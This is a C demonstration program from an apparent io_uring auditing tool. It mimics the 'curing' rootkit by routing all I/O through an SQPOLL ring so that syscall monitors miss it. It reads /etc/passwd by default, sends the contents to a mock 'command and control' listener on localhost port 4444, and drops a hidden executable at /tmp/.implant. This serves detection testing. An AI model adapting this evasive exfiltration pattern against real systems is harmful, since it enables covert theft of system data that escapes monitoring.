// SPDX-License-Identifier: GPL-2.0-only
/*
 * uringaudit - Demo: a program that, like the 2025 "curing" rootkit, does
 * all its file and network I/O through an SQPOLL ring, so that not one
 * system call names what it reads or where it sends it.
 *
 * It reads a file, connects to a "command and control" listener on
 * 127.0.0.1, sends what it read, and drops a file, each through the ring.
 * The listener is a child process using plain system calls.
 *
 * Usage: curing-demo [SECRET [PORT]]   (default /etc/passwd, port 4444)
 *
 * Exit codes: 0 everything went through, 1 an op failed, 2 setup failed.
 *
 * Copyright (C) 2026 The uringaudit authors
 */

#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include "common.h"

#define C2_PORT 4444

static void c2_serve(int lfd)
{
	char buf[256];
	ssize_t n;
	int fd = accept(lfd, NULL, NULL);

	if (fd < 0)
		_exit(1);
	n = read(fd, buf, sizeof(buf) - 1);
	if (n > 0) {
		buf[n] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
		printf("  [c2 server] received %zd bytes: \"%s...\"\n", n, buf);
	}
	_exit(0);
}

static int step(const char *what, int res)
{
	if (res < 0)
		printf("  %-40s FAILED: %s\n", what, strerror(-res));
	else
		printf("  %-40s ok (%d)\n", what, res);
	return res;
}

int main(int argc, char **argv)
{
	struct io_uring_params p = { .flags = IORING_SETUP_SQPOLL,
				     .sq_thread_idle = 2000 };
	const char *secret = argc > 1 ? argv[1] : "/etc/passwd";
	int port = argc > 2 ? atoi(argv[2]) : C2_PORT;
	struct sockaddr_in c2 = {
		.sin_family = AF_INET,
		.sin_port = htons(port),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	static char loot[128];
	char what[64];
	struct io_uring_sqe *sqe;
	struct io_uring ring;
	int ret, fd, sock, lfd, failed = 0;
	pid_t server;

	setvbuf(stdout, NULL, _IOLBF, 0);
	lfd = listen_loopback(port);
	if (lfd < 0) {
		fprintf(stderr, "Failed to listen on \"127.0.0.1:%d\": %s\n",
			port, strerror(errno));
		return 2;
	}
	server = fork();
	if (server == 0)
		c2_serve(lfd);
	close(lfd);

	printf("  curing-demo: pid %d, all I/O through one SQPOLL ring\n",
	       getpid());
	ret = io_uring_queue_init_params(8, &ring, &p);
	if (step("io_uring_setup(SQPOLL)", ret) < 0) {
		kill(server, SIGKILL);
		waitpid(server, NULL, 0);
		return 2;
	}

	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_openat(sqe, AT_FDCWD, secret, O_RDONLY, 0);
	fd = step("openat(secret)", submit_and_wait(&ring));
	if (fd >= 0) {
		sqe = io_uring_get_sqe(&ring);
		io_uring_prep_read(sqe, fd, loot, sizeof(loot) - 1, 0);
		failed |= step("read(secret)", submit_and_wait(&ring)) < 0;
		close(fd);
	} else {
		failed = 1;
	}

	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_socket(sqe, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0, 0);
	sock = step("socket(AF_INET)", submit_and_wait(&ring));
	if (sock >= 0) {
		sqe = io_uring_get_sqe(&ring);
		io_uring_prep_connect(sqe, sock, (struct sockaddr *)&c2,
				      sizeof(c2));
		snprintf(what, sizeof(what), "connect(127.0.0.1:%d)", port);
		ret = step(what, submit_and_wait(&ring));
		if (ret >= 0) {
			sqe = io_uring_get_sqe(&ring);
			io_uring_prep_send(sqe, sock, loot, strlen(loot), 0);
			failed |= step("send(secret)", submit_and_wait(&ring)) <
				  0;
		} else {
			failed = 1;
		}
		close(sock);
	} else {
		failed = 1;
	}

	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_openat(sqe, AT_FDCWD, "/tmp/.implant",
			     O_WRONLY | O_CREAT | O_TRUNC, 0700);
	fd = step("openat(/tmp/.implant, O_CREAT)", submit_and_wait(&ring));
	if (fd >= 0) {
		sqe = io_uring_get_sqe(&ring);
		io_uring_prep_write(sqe, fd, "#!/bin/sh\n", 10, 0);
		failed |= step("write(/tmp/.implant)", submit_and_wait(&ring)) <
			  0;
		close(fd);
	} else {
		failed = 1;
	}

	io_uring_queue_exit(&ring);
	kill(server, SIGKILL);
	waitpid(server, NULL, 0);
	return failed;
}
